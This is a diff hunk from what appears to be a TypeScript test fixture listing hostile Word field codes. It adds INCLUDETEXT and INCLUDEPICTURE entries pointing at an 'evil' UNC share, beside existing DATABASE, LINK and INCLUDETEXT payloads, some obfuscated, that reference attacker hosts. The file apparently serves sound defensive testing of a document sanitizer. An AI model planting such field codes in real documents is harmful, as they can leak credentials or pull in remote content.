@@ -123,6 +123,8 @@ export const hostileFiles: readonly HostileFile[] = [
     'DATABASE \\d "\\\\\\\\evil\\\\x.mdb"',
     'LINK Word.Document.12 "file://evil/x.docx" \\a',
     'LINK Word.Document.12 "file:\\\\\\\\evil\\\\x.docx" \\a',
+    'INCLUDETEXT "file:////evil/share/x.docx"',
+    'INCLUDEPICTURE "//evil/share/x.png" \\d',
     'INCLUDETEXT “https://evil.example/x.docx”',
     'INCLUDETEXT "h\\ttps://evil.example/x.docx"',
   ].map((code) =>
